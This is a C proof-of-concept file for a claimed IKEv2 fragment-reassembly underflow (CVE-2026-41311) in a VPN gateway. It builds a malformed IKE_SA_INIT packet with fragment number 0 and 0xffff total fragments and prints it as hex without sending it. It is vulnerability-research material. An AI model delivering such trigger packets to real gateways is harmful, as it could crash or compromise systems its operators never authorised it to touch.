/* CVE-2026-41311 PoC: IKEv2 fragment reassembly underflow in Fabrikam Secure Access Gateway.
 * Builds one malformed IKE_SA_INIT message with fragment number 0 (RFC 7383 requires >= 1)
 * and prints it as hex; sends nothing. Lab use only.
 * Usage: fabrikam-ikev2-frag [-v]
 */
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#define IKE_PORT 500
#define IKE_HDR_LEN 28
#define SKF_PAYLOAD 53 /* Encrypted and Authenticated Fragment */

static const char banner[] = "CVE-2026-41311 \"fragment 0\" trigger\n\tlab use only";

static size_t put_u16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)(v & 0xff);
    return 2;
}

static size_t put_u32(uint8_t *p, uint32_t v)
{
    return put_u16(p, (uint16_t)(v >> 16)) + put_u16(p + 2, (uint16_t)(v & 0xffff));
}

int main(int argc, char **argv)
{
    uint8_t msg[64];
    size_t n = 16; /* initiator SPI, then a zero responder SPI */

    memset(msg, 0, sizeof msg);
    memcpy(msg, "\x1f\x2e\x3d\x4c\x5b\x6a\x79\x88", 8);
    msg[n++] = SKF_PAYLOAD;
    msg[n++] = 0x20; /* version 2.0 */
    msg[n++] = 34;   /* IKE_SA_INIT */
    msg[n++] = 0x08; /* initiator */
    n += put_u32(msg + n, 0);
    n += put_u32(msg + n, IKE_HDR_LEN + 8);
    n += put_u16(msg + n, 0);      /* next payload, flags */
    n += put_u16(msg + n, 8);      /* payload length */
    n += put_u16(msg + n, 0);      /* fragment number: 0 */
    n += put_u16(msg + n, 0xffff); /* total fragments */
    if (n > sizeof msg || n != IKE_HDR_LEN + 8) {
        fprintf(stderr, "bad length %zu\n", n);
        return 1;
    }
    puts(banner);
    printf("udp/%d, %zu bytes:\n", IKE_PORT, n);
    for (size_t i = 0; i < n; i++)
        printf("%02x%s", msg[i], (i % 16 == 15 || i + 1 == n) ? "\n" : " ");
    if (argc > 1 && strcmp(argv[1], "-v") == 0)
        printf("fragment %u of %u\n", (unsigned)(msg[32] << 8 | msg[33]), (unsigned)(msg[34] << 8 | msg[35]));
    return 0;
}
